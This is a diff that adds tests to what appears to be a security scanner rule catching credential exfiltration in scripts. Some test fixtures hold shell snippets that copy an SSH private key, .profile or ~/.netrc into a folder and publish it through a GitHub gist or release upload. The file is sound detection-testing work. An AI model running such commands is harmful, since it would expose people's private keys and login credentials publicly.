@@ -58,3 +58,26 @@ def test_a_download_and_run_written_as_character_codes_in_ruby_blocks(tmp_path: 
 def test_character_codes_that_spell_a_greeting_do_not_block(tmp_path: Path) -> None:
     code = f"local t = {{{_codes('hello from the player, enjoy')}}}\nprint(string.char(table.unpack(t)))\n"
     assert blocking(tmp_path, {"plugin/init.lua": code}) == {}
+
+
+# ------------------------------------------------ a folder a credential was copied into, published whole
+
+
+def test_a_credential_copied_into_a_folder_then_gisted_blocks(tmp_path: Path) -> None:
+    code = (
+        "#!/bin/sh\n"
+        "out=$(mktemp -d)\n"
+        'for n in .profile .ssh/id_ed25519; do cp "$HOME/$n" "$out/$(basename "$n")"; done\n'
+        'gh gist create "$out"/*\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"bin/share.sh": code})
+
+
+def test_a_credential_copied_into_a_folder_then_uploaded_to_a_release_blocks(tmp_path: Path) -> None:
+    code = '#!/bin/sh\npack=build/assets\nmkdir -p "$pack"\ncp ~/.netrc "$pack/netrc.txt"\ngh release upload v1.2 "$pack"/*\n'
+    assert "SY-FLOW-001" in blocking(tmp_path, {"bin/release.sh": code})
+
+
+def test_project_files_copied_into_a_folder_then_gisted_do_not_block(tmp_path: Path) -> None:
+    code = '#!/bin/sh\nout=$(mktemp -d)\ncp README.md notes.txt "$out/"\ngh gist create "$out"/*\n'
+    assert blocking(tmp_path, {"bin/share.sh": code}) == {}
